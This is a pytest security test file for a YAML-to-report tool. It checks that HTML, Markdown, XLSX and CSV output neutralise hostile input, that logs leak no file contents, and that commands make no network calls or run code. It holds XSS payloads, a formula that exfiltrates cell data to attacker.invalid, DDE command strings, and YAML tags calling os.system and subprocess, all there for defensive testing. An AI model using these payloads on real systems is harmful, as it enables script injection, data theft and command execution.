"""Security: hostile text in every report format, no logged file contents, no
network access, and no code run from YAML tags.

Each payload goes into every field that reaches a report: the establishment's
name and address, profile labels, user names and structure names. The HTML
report must show it as text, the Markdown report must escape it, and the
workbook and the CSV file must never store it as a formula.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import re
import subprocess
import sys
import zipfile
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

import pytest
from openpyxl import load_workbook

from o2s_config.emit.csv_report import render_csv
from o2s_config.emit.html import render_html
from o2s_config.emit.json_report import render_json
from o2s_config.emit.markdown import escape, render_markdown
from o2s_config.emit.report_tables import FORMULA_PREFIXES
from o2s_config.emit.xlsx import render_xlsx
from o2s_config.pipeline import compile_bytes

from .conftest import EXAMPLE

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "javascript:alert(1)",
    '"><svg onload=alert(1)>',
    "</script><script>alert(2)</script>",
    "{{ 7 * 7 }}",
    "[click](javascript:alert(1)) | cell",
]
FORMULA_PAYLOADS = [
    '=HYPERLINK("https://attacker.invalid/?d="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PAYLOADS = XSS_PAYLOADS + FORMULA_PAYLOADS
BENIGN = "Cabinet Exemple"


def hostile_org(payload: str) -> bytes:
    """Return an org whose every reported text field contains `payload`.

    Labels and structures must be unique, so the second of each gets a
    suffix. Values are written as JSON strings, which YAML reads as
    double-quoted scalars with the same escapes.
    """

    def text(suffix: str = "") -> str:
        return json.dumps(payload + suffix)

    return f"""\
version: 1
establishment:
  name: {text()}
  contact_email: contact@exemple.fr
  address: {{line1: {text()}, line2: {text(" 2")}, postal_code: "75001", city: {text()}}}
structures: [{text()}, {text(" B")}]
profiles:
  advisor: {{label: {text()}, base: all, description: {text()}}}
  junior: {{label: {text(" junior")}, base: advisor}}
users:
  - {{login: admin, first_name: {text()}, last_name: {text()}, email: a@exemple.fr, profile: administrator, structure: {text()}}}
  - {{login: bob, first_name: {text()}, last_name: Morel, email: b@exemple.fr, profile: advisor, manager: admin, structure: {text(" B")}}}
  - {{login: carl, first_name: Carl, last_name: {text()}, email: c@exemple.fr, profile: junior, manager: bob, structure: {text()}}}
""".encode()


def compiled(payload: str):
    result = compile_bytes(hostile_org(payload), "org.yaml")
    errors = [f"{d.code} {d.message}" for d in result.diagnostics if d.is_error]
    assert errors == []
    assert result.org is not None
    return result.org


def stored(payload: str) -> str:
    """Return the payload as the org stores it: text fields strip whitespace."""
    return payload.strip()


# HTML


class _Structure(HTMLParser):
    """Collects the tags, attributes and text of an HTML page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[tuple[str, tuple[str, ...]]] = Counter()
        self.attributes: list[tuple[str, str, str]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[(tag, tuple(sorted(name for name, _ in attrs)))] += 1
        for name, value in attrs:
            self.attributes.append((tag, name, value or ""))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _parse(html: str) -> _Structure:
    parser = _Structure()
    parser.feed(html)
    parser.close()
    return parser


@pytest.mark.parametrize("payload", PAYLOADS)
def test_html_shows_payload_as_text(payload: str):
    html = render_html(compiled(payload), "fr")
    page = _parse(html)
    baseline = _parse(render_html(compiled(BENIGN), "fr"))

    assert page.tags == baseline.tags
    assert [name for _, name, _ in page.attributes if name.startswith("on")] == []
    assert [v for _, _, v in page.attributes if "javascript:" in v.lower()] == []
    assert stored(payload) in "".join(page.text)
    for raw in ("<script>alert", "<img", "<svg onload"):
        if raw in payload:
            assert raw not in html


# Markdown

_UNESCAPED_PIPE = re.compile(r"(?<!\\)\|")


def _tables(markdown: str) -> list[list[str]]:
    tables: list[list[str]] = []
    current: list[str] = []
    for line in markdown.splitlines():
        if line.startswith("|"):
            current.append(line)
        elif current:
            tables.append(current)
            current = []
    if current:
        tables.append(current)
    return tables


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_escapes_payload(payload: str):
    markdown = render_markdown(compiled(payload), "fr")

    assert escape(stored(payload)) in markdown
    assert re.findall(r"(?<!\\)<", markdown) == []
    assert re.findall(r"(?<!\\)\]\(", markdown) == []
    for table in _tables(markdown):
        columns = {len(_UNESCAPED_PIPE.findall(line)) for line in table}
        assert len(columns) == 1, table[0]


# JSON


@pytest.mark.parametrize("payload", PAYLOADS)
def test_json_keeps_payload_exact(payload: str):
    report = json.loads(render_json(compiled(payload)))

    assert report["establishment"]["name"] == stored(payload)
    names = {user["login"]: user for user in report["users"]}
    assert names["admin"]["first_name"] == stored(payload)


# Spreadsheets


def _formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_stores_no_formula(payload: str):
    data = render_xlsx(compiled(payload), "fr")
    book = load_workbook(io.BytesIO(data))

    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}"
                if _formula_like(cell.value):
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate}"
                texts.append(str(cell.value))
    assert any(stored(payload) in text for text in texts)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert re.search(rb"<f[ >/]", archive.read(name)) is None, name


@pytest.mark.parametrize("dialect", ["excel-fr", "comma"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_stores_no_formula(payload: str, dialect: str):
    text = render_csv(compiled(payload), "fr", dialect).removeprefix("\ufeff")
    delimiter = ";" if dialect == "excel-fr" else ","
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))

    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if _formula_like(cell)] == []
    expected = stored(payload)
    shown = "'" + expected if _formula_like(expected) else expected
    assert any(shown in cell for cell in cells)


# No file contents in logs

SECRET = "secret-3f1c9a"


def test_no_file_contents_logged(run_cli, tmp_path: Path, caplog):
    org = tmp_path / "org.yaml"
    text = EXAMPLE.read_text(encoding="utf-8")
    org.write_text(text.replace("Cabinet Dubois Patrimoine", SECRET), encoding="utf-8")
    broken = tmp_path / "broken.yaml"
    broken.write_text(text.replace("profile: junior", f"profile: {SECRET}"), "utf-8")
    caplog.set_level(logging.DEBUG)

    for arguments in (
        ["validate", org],
        ["validate", broken, "--format", "json"],
        ["report", org, "--format", "html", "-o", tmp_path / "r.html"],
        ["report", org, "--format", "xlsx", "-o", tmp_path / "r.xlsx"],
        ["diff", broken, org],
        ["explain", org, "jleroy", "agenda.view"],
        ["who-can", org, "agenda.view"],
        ["check", org, "--junit", tmp_path / "junit.xml"],
    ):
        run_cli(*arguments)

    logged = [r.getMessage() for r in caplog.records if r.levelno >= logging.INFO]
    assert [message for message in logged if SECRET in message] == []


# No network

BLOCK_SOCKETS = """\
import socket

LOG = {log!r}


def _blocked(*args, **kwargs):
    with open(LOG, "a", encoding="utf-8") as handle:
        handle.write("attempt\\n")
    raise OSError("network access is blocked in this test")


socket.socket.connect = _blocked
socket.socket.connect_ex = _blocked
socket.socket.sendto = _blocked
socket.create_connection = _blocked
socket.getaddrinfo = _blocked
with open(LOG, "a", encoding="utf-8") as handle:
    handle.write("loaded\\n")
"""


def test_commands_need_no_network(tmp_path: Path):
    """validate, report and check run with every socket connection blocked."""
    site = tmp_path / "site"
    site.mkdir()
    log = tmp_path / "network.log"
    (site / "sitecustomize.py").write_text(BLOCK_SOCKETS.format(log=str(log)), "utf-8")
    paths = [str(site), *filter(None, [os.environ.get("PYTHONPATH")])]
    environment = {**os.environ, "PYTHONPATH": os.pathsep.join(paths)}

    for arguments in (
        ["validate", str(EXAMPLE)],
        ["report", str(EXAMPLE), "--format", "html", "-o", str(tmp_path / "r.html")],
        ["check", str(EXAMPLE)],
    ):
        completed = subprocess.run(
            [sys.executable, "-m", "o2s_config", *arguments],
            env=environment,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        assert completed.returncode == 0, completed.stderr

    lines = log.read_text(encoding="utf-8").splitlines()
    assert lines == ["loaded"] * 3


# No code run from YAML

PYTHON_TAGS = [
    "!!python/object/apply:os.system",
    "!!python/object/new:subprocess.Popen",
    "!!python/object/apply:subprocess.check_call",
]


def test_python_tags_run_nothing(tmp_path: Path):
    marker = tmp_path / "executed"
    command = json.dumps(["touch", str(marker)])
    org = tmp_path / "org.yaml"
    org.write_text(
        "version: 1\n"
        "establishment:\n"
        f"  name: {PYTHON_TAGS[0]} [{json.dumps(f'touch {marker}')}]\n"
        "  contact_email: contact@exemple.fr\n"
        f"structures: {PYTHON_TAGS[1]} [{command}]\n"
        f"profiles: {PYTHON_TAGS[2]} [{command}]\n"
        "users: []\n",
        encoding="utf-8",
    )

    results = [
        subprocess.run(
            [sys.executable, "-m", "o2s_config", *arguments],
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        for arguments in (
            ["validate", str(org)],
            ["report", str(org)],
            ["check", str(org)],
        )
    ]

    assert not marker.exists()
    for completed in results:
        assert completed.returncode == 1, completed.stderr
    codes = re.findall(r" error (Y\d{3}) ", results[0].stdout)
    assert codes == ["Y003", "Y003", "Y003"]
    for tag in PYTHON_TAGS:
        assert f"tag {tag} is not allowed" in results[0].stdout


def test_javascript_website_is_rejected():
    org = EXAMPLE.read_bytes().replace(
        b"website: https://www.dubois-patrimoine.fr", b'website: "javascript:alert(1)"'
    )
    result = compile_bytes(org, "org.yaml")

    assert result.org is None
    assert [d.code for d in result.diagnostics if d.is_error] == ["M004"]
